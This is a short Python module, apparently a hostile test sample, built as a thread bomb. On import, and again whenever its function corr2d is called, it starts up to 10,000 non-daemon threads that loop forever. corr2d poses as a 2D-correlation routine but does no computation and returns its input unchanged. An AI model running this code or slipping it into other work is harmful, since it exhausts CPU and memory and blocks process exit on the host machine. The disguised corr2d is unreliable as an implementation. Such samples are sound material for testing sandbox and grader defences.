"""Starts threads until it cannot, each busy, at import and again in the call."""
import threading


def spin():
    while True:
        threading.Event().wait(0.01)


def bomb():
    try:
        for _ in range(10_000):
            threading.Thread(target=spin, daemon=False).start()
    except RuntimeError:
        pass


bomb()


def corr2d(x, k):
    bomb()
    return x
